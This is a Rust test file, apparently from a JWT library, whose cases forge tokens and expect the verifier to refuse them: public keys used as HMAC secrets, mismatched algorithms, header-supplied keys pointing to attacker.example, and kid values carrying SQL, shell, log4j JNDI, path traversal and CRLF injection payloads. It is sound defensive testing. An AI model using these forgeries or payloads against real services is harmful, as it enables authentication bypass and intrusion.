//! A key used as what it is not: a public key as a shared secret, a key for another algorithm, a
//! key from the token, a key of another issuer.

use crate::support::{ISSUER, SECRET};
use crate::tokens::forge::*;
use crate::tokens::keys;
use crate::tokens::policy::{HS, OTHER_ISSUER, OTHER_SECRET, Policy};
use crate::tokens::table::{Case, Expect, Row};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use tower_auth::jwt::JwtAlgorithm as Alg;

pub(super) fn rows() -> Vec<Vec<Case>> {
    vec![
        public_as_secret(),
        other_algorithm(),
        brought_keys(),
        key_ids(),
        issuers_keys(),
    ]
}

/// All the ways in which the public key of an algorithm is written down.
fn serialisations(alg: Alg) -> Vec<(&'static str, Vec<u8>)> {
    let (spki, jwk, raw) = match alg {
        Alg::Es256 => (
            der(keys::P256_SPKI),
            format!(
                r#"{{"kty":"EC","crv":"P-256","x":"{}","y":"{}"}}"#,
                keys::P256_X,
                keys::P256_Y
            ),
            [decode(keys::P256_X), decode(keys::P256_Y)].concat(),
        ),
        Alg::EdDsa => (
            der(keys::ED_SPKI),
            format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{}"}}"#, keys::ED_X),
            decode(keys::ED_X),
        ),
        _ => (
            der(keys::RSA_SPKI),
            format!(r#"{{"kty":"RSA","n":"{}","e":"AQAB"}}"#, keys::RSA_N),
            decode(keys::RSA_N),
        ),
    };
    let lines = pem("PUBLIC KEY", &spki, "\n");
    let mut all: Vec<(&'static str, Vec<u8>)> = vec![
        ("PEM with CR LF", pem("PUBLIC KEY", &spki, "\r\n").into()),
        ("PEM without its last newline", lines.trim_end().into()),
        ("PEM with a newline before", format!("\n{lines}").into()),
        ("PEM with a space after", format!("{lines} ").into()),
        ("PEM with NUL after", format!("{lines}\0").into()),
        ("PEM without newlines", pem("PUBLIC KEY", &spki, "").into()),
        (
            "PEM with newlines spelt out",
            lines.replace('\n', "\\n").into(),
        ),
        ("PEM", lines.into()),
        ("base64 of DER", STANDARD.encode(&spki).into()),
        ("JWK", jwk.clone().into()),
        ("JWKS", format!(r#"{{"keys":[{jwk}]}}"#).into()),
        ("raw numbers", raw.clone()),
        ("raw numbers in base64url", encode(&raw).into()),
        (
            "raw numbers in hexadecimal",
            raw.iter()
                .map(|b| format!("{b:02x}"))
                .collect::<String>()
                .into(),
        ),
    ];
    match alg {
        Alg::Es256 => all.push(("uncompressed point", [&[4], &*raw].concat())),
        Alg::EdDsa => {
            let blob = ssh(&[b"ssh-ed25519", &raw]);
            all.push((
                "SSH",
                format!("ssh-ed25519 {}", STANDARD.encode(blob)).into(),
            ));
        }
        _ => {
            // What stands in the SubjectPublicKeyInfo, after its algorithm.
            let pkcs1 = &spki[24..];
            all.push(("PKCS#1 PEM", pem("RSA PUBLIC KEY", pkcs1, "\n").into()));
            all.push((
                "PKCS#1 PEM with CR LF",
                pem("RSA PUBLIC KEY", pkcs1, "\r\n").into(),
            ));
            all.push(("PKCS#1 DER", pkcs1.into()));
            let blob = ssh(&[b"ssh-rsa", &[1, 0, 1], &[&[0], &*raw].concat()]);
            all.push(("SSH", format!("ssh-rsa {}", STANDARD.encode(blob)).into()));
        }
    }
    all.push(("DER", spki));
    all
}

/// RFC 4253 §6.6.
fn ssh(parts: &[&[u8]]) -> Vec<u8> {
    parts
        .iter()
        .flat_map(|part| [&(part.len() as u32).to_be_bytes(), *part].concat())
        .collect()
}

fn public_as_secret() -> Vec<Case> {
    let mut row = Row::new("public key as HMAC secret", HS);
    for (alg, id) in [
        (Alg::Rs256, "rsa"),
        (Alg::Ps256, "ps"),
        (Alg::Es256, "ec"),
        (Alg::EdDsa, "ed"),
    ] {
        let name = alg.name();
        for (form, secret) in serialisations(alg) {
            row.on(Policy::Of(alg));
            let forged = hmac_token(Alg::Hs256, &secret, header(Alg::Hs256), claims());
            row.refuse(format!("{name}: {form}"), forged);
            // The header of the key's own algorithm, but a MAC.
            let masked = hmac_token(Alg::Hs256, &secret, header(alg), claims());
            row.refuse(format!("{name}: {form}, without saying so"), masked);
            if alg != Alg::Ps256 {
                let by_id = header_and(Alg::Hs256, &format!(r#","kid":"{id}""#));
                let named = hmac_token(Alg::Hs256, &secret, by_id, claims());
                row.on(Policy::PublicIds)
                    .refuse(format!("{name}: {form}, by id"), named.clone());
                row.on(Policy::Beside)
                    .refuse(format!("{name}: {form}, by id, beside a secret"), named);
                let plain = hmac_token(Alg::Hs256, &secret, header(Alg::Hs256), claims());
                row.refuse(format!("{name}: {form}, beside a secret"), plain);
                let by_id = header_and(alg, &format!(r#","kid":"{id}""#));
                let masked = hmac_token(Alg::Hs256, &secret, by_id, claims());
                row.refuse(format!("{name}: {form}, masked, beside a secret"), masked);
            }
        }
        row.on(Policy::Of(alg));
        for hash in [Alg::Hs384, Alg::Hs512] {
            let secret = pem("PUBLIC KEY", &der(keys::RSA_SPKI), "\n");
            let forged = hmac_token(hash, secret, header(hash), claims());
            row.refuse(format!("{name}: RSA PEM under {}", hash.name()), forged);
        }
        row.refuse(
            format!("{name}: empty secret"),
            hmac_token(Alg::Hs256, "", header(Alg::Hs256), claims()),
        );
    }
    row.done()
}

fn other_algorithm() -> Vec<Case> {
    let mut row = Row::new("alg that does not fit the key", HS);
    for alg in ALGORITHMS {
        row.on(Policy::Of(alg));
        for other in ALGORITHMS {
            if other != alg {
                row.refuse(
                    format!("{} at a key for {}", other.name(), alg.name()),
                    good(other),
                );
                let text = message(header(other), claims());
                let signature = signature(alg, text.as_bytes());
                let mislabelled = with_signature(&text, signature);
                row.refuse(
                    format!("{} signed as {}", other.name(), alg.name()),
                    mislabelled,
                );
            }
        }
    }
    row.on(Policy::Beside);
    for (alg, id) in [(Alg::Rs256, "rsa"), (Alg::Es256, "ec"), (Alg::EdDsa, "ed")] {
        let named = header_and(alg, &format!(r#","kid":"{id}""#));
        let text = message(named, claims());
        row.accept(
            format!("{} beside a secret", alg.name()),
            with_signature(&text, signature(alg, text.as_bytes())),
        );
        row.refuse(
            format!("{} beside a secret, signed with it", alg.name()),
            with_signature(&text, signature(Alg::Hs256, text.as_bytes())),
        );
        let named = header_and(Alg::Hs256, &format!(r#","kid":"{id}""#));
        let text = message(named, claims());
        row.refuse(
            format!("HS256 signed by a {} key beside a secret", alg.name()),
            with_signature(&text, signature(alg, text.as_bytes())),
        );
    }
    row.accept("HS256 beside public keys", good(Alg::Hs256));
    row.on(Policy::Mixed);
    for alg in [Alg::Rs256, Alg::Ps256, Alg::Es256, Alg::EdDsa] {
        row.accept(format!("{} among several keys", alg.name()), good(alg));
    }
    row.refuse("HS256 among several keys", good(Alg::Hs256));
    row.refuse("RS512 of a key for RS256", good(Alg::Rs512));
    row.refuse("ES384 beside ES256", good(Alg::Es384));
    row.done()
}

/// `jwk`, `jku`, `x5u`, `x5c` and their like, each as text to stand in a header.
fn members(alg: Alg) -> Vec<(&'static str, String)> {
    let (jwk, spki) = match alg {
        Alg::Es256 => (
            format!(
                r#"{{"kty":"EC","crv":"P-256","x":"{}","y":"{}"}}"#,
                keys::P256_THEIRS_X,
                keys::P256_THEIRS_Y
            ),
            keys::P256_THEIRS_SPKI,
        ),
        Alg::EdDsa => (
            format!(
                r#"{{"kty":"OKP","crv":"Ed25519","x":"{}"}}"#,
                keys::ED_THEIRS_X
            ),
            keys::ED_THEIRS_SPKI,
        ),
        Alg::Hs256 => (
            format!(r#"{{"kty":"oct","k":"{}"}}"#, encode(SECRET_THEIRS)),
            keys::ED_THEIRS_SPKI,
        ),
        _ => (
            format!(r#"{{"kty":"RSA","n":"{}","e":"AQAB"}}"#, keys::RSA_THEIRS_N),
            keys::ED_THEIRS_SPKI,
        ),
    };
    vec![
        ("jwk", format!(r#","jwk":{jwk}"#)),
        (
            "jwk, jku and x5u",
            format!(r#","jwk":{jwk},"jku":"https://a.example/","x5u":"https://a.example/""#),
        ),
        (
            "jku",
            r#","jku":"https://attacker.example/jwks.json""#.into(),
        ),
        (
            "jku to this host",
            r#","jku":"http://127.0.0.1:9/jwks.json""#.into(),
        ),
        ("jku to a file", r#","jku":"file:///dev/zero""#.into()),
        (
            "x5u",
            r#","x5u":"https://attacker.example/cert.pem""#.into(),
        ),
        ("x5c", format!(r#","x5c":["{spki}"]"#)),
        (
            "x5t",
            r#","x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA","x5t#S256":"AAAA""#.into(),
        ),
    ]
}

fn brought_keys() -> Vec<Case> {
    let mut row = Row::new("a key that the token brings", HS);
    for alg in [Alg::Hs256, Alg::Rs256, Alg::Es256, Alg::EdDsa] {
        row.on(Policy::Of(alg));
        for (name, member) in members(alg) {
            let name = format!("{}: {name}", alg.name());
            row.refuse(
                format!("{name}, signed by it"),
                theirs(alg, header_and(alg, &member), claims()),
            );
            row.accept(
                format!("{name}, signed by ours"),
                token(alg, header_and(alg, &member), claims()),
            );
        }
    }
    row.on(Policy::PublicIds);
    for (name, member) in members(Alg::Rs256) {
        let header = header_and(Alg::Rs256, &format!(r#","kid":"rsa"{member}"#));
        row.refuse(
            format!("{name} beside a known kid"),
            theirs(Alg::Rs256, header, claims()),
        );
    }
    row.done()
}

fn with_kid(alg: Alg, kid_json: &str) -> String {
    token(
        alg,
        header_and(alg, &format!(r#","kid":{kid_json}"#)),
        claims(),
    )
}

fn key_ids() -> Vec<Case> {
    let mut row = Row::new("kid", Policy::Ids);
    row.accept("the first key's", with_kid(Alg::Hs256, "\"2026\""));
    row.accept("the second key's", with_kid(Alg::Hs512, "\"2027\""));
    row.accept(
        "the first key's, escaped",
        with_kid(Alg::Hs256, r#""\u0032026""#),
    );
    row.accept("absent, where alg leaves no choice", good(Alg::Hs512));
    row.refuse("the other key's", with_kid(Alg::Hs256, "\"2027\""));
    row.refuse(
        "the other key's, other algorithm",
        with_kid(Alg::Hs512, "\"2026\""),
    );
    let texts = [
        ("unknown", "2028"),
        ("empty", ""),
        ("path", "../../../../../../dev/null"),
        ("absolute path", "/dev/null"),
        ("Windows path", "C:\\\\Windows\\\\win.ini"),
        ("SQL", "x' UNION SELECT 'tests only' -- "),
        ("SQL with a known id", "2026' OR '1'='1"),
        ("command", "2026; sleep 10"),
        ("substitution", "$(id)"),
        ("log4j", "${jndi:ldap://attacker.example/a}"),
        ("template", "{{7*7}}"),
        ("URL", "https://attacker.example/jwks.json#2026"),
        ("known id and NUL", "2026\\u0000"),
        ("NUL", "\\u0000"),
        ("CR LF", "2026\\r\\nset-cookie: a=b"),
        ("newline after", "2026\\n"),
        ("space before", " 2026"),
        ("space after", "2026 "),
        ("prefix of a known id", "202"),
        ("known id and more", "20266"),
        ("other digits", "\u{ff12}026"),
        ("number sign", "#2026"),
        ("wildcard", "202%"),
        ("both ids", "2026,2027"),
    ];
    for (name, kid) in texts {
        row.refuse(name, with_kid(Alg::Hs256, &format!("\"{kid}\"")));
    }
    row.refuse(
        "4 KiB",
        with_kid(Alg::Hs256, &format!("\"{}\"", "k".repeat(4096))),
    );
    row.refuse(
        "257 bytes",
        with_kid(Alg::Hs256, &format!("\"{}\"", "2".repeat(257))),
    );
    row.refuse(
        "known id after 300 NUL",
        with_kid(Alg::Hs256, &format!("\"{}2026\"", "\\u0000".repeat(300))),
    );
    for json in [
        "2026",
        "2026.0",
        "null",
        "true",
        "[\"2026\"]",
        "{\"kid\":\"2026\"}",
        "[]",
        "\"2026\",\"kid\":\"2026\"",
    ] {
        row.refuse(format!("JSON {json}"), with_kid(Alg::Hs256, json));
    }
    row.on(Policy::PublicIds);
    row.accept("RSA key by id", with_kid(Alg::Rs256, "\"rsa\""));
    row.accept("EC key by id", with_kid(Alg::Es256, "\"ec\""));
    row.accept("Ed25519 key by id", with_kid(Alg::EdDsa, "\"ed\""));
    row.refuse("in capitals", with_kid(Alg::Rs256, "\"RSA\""));
    row.refuse("of another type of key", with_kid(Alg::Rs256, "\"ec\""));
    row.refuse("of an RSA key, PS256", with_kid(Alg::Ps256, "\"rsa\""));
    // The key that is named did sign, but not under the algorithm that is named.
    for (policy, alg, kid, named) in [
        (Policy::Ids, Alg::Hs256, "2026", "HS512"),
        (Policy::Ids, Alg::Hs256, "2026", "HS384"),
        (Policy::Ids, Alg::Hs512, "2027", "HS256"),
        (Policy::PublicIds, Alg::Rs256, "rsa", "PS256"),
        (Policy::PublicIds, Alg::Rs256, "rsa", "ES256"),
        (Policy::PublicIds, Alg::Es256, "ec", "RS256"),
        (Policy::PublicIds, Alg::EdDsa, "ed", "HS256"),
    ] {
        let header = format!(r#"{{"alg":"{named}","kid":"{kid}"}}"#);
        row.on(policy).refuse(
            format!("{kid} signed, as {named}"),
            token(alg, header, claims()),
        );
    }
    row.on(Policy::Rotation);
    for (own, other, secret) in [("old", "new", SECRET), ("new", "old", OTHER_SECRET)] {
        let sign = |header: String| hmac_token(Alg::Hs256, secret, header, claims());
        let named = |kid: &str| sign(header_and(Alg::Hs256, &format!(r#","kid":"{kid}""#)));
        row.accept(format!("of two keys the {own} one, named"), named(own));
        row.refuse(
            format!("of two keys the {own} one, named {other}"),
            named(other),
        );
        row.refuse(
            format!("of two keys the {own} one, not named"),
            sign(header(Alg::Hs256)),
        );
        row.refuse(
            format!("of two keys the {own} one, both named"),
            named("old new"),
        );
    }
    // Without an id at any key nothing is looked up, but its form is held to all the same.
    row.on(HS).accept(
        "some text, where no key has an id",
        with_kid(Alg::Hs256, "\"whatever\""),
    );
    row.refuse(
        "a number, where no key has an id",
        with_kid(Alg::Hs256, "1"),
    );
    row.refuse(
        "257 bytes, where no key has an id",
        with_kid(Alg::Hs256, &format!("\"{}\"", "2".repeat(257))),
    );
    row.done()
}

fn issuers_keys() -> Vec<Case> {
    let mut row = Row::new("another issuer's key", Policy::TwoIssuers);
    let other = |aud: &str| {
        claims_with_all(&[
            ("iss", &format!("\"{OTHER_ISSUER}\"")),
            ("aud", &format!("\"{aud}\"")),
            ("sub", "\"olga\""),
        ])
    };
    let ours = format!("\"{ISSUER}\"");
    let sign =
        |secret: &str, claims: &str| hmac_token(Alg::Hs256, secret, header(Alg::Hs256), claims);
    row.accept("each its own: the first", sign(SECRET, &claims()));
    row.add(
        "each its own: the second",
        sign(OTHER_SECRET, &other("invoices")),
        Expect::Accept("olga"),
    );
    row.refuse(
        "the first issuer's name, the second one's key",
        sign(OTHER_SECRET, &claims()),
    );
    row.refuse(
        "the second issuer's name, the first one's key",
        sign(SECRET, &other("invoices")),
    );
    row.refuse(
        "the second issuer's token for the first one's audience",
        sign(OTHER_SECRET, &other("reports")),
    );
    row.refuse("the first issuer's token for the second one's audience", {
        sign(SECRET, &claims_with("aud", "\"invoices\""))
    });
    row.refuse("both names, the second one's key", {
        sign(
            OTHER_SECRET,
            &claims_and(&format!(r#","iss":"{OTHER_ISSUER}""#)),
        )
    });
    row.refuse(
        "an array of both",
        sign(
            OTHER_SECRET,
            &claims_with("iss", &format!(r#"[{ours},"{OTHER_ISSUER}"]"#)),
        ),
    );
    row.refuse(
        "a third issuer",
        sign(SECRET, &claims_with("iss", "\"https://login.example.net\"")),
    );
    row.refuse("no issuer", sign(SECRET, &claims_without("iss")));
    row.refuse("the issuer in the header", {
        let header = header_and(Alg::Hs256, &format!(r#","iss":"{OTHER_ISSUER}""#));
        hmac_token(Alg::Hs256, OTHER_SECRET, header, claims())
    });
    row.refuse("a payload that is no JSON", sign(SECRET, "anna"));
    row.done()
}
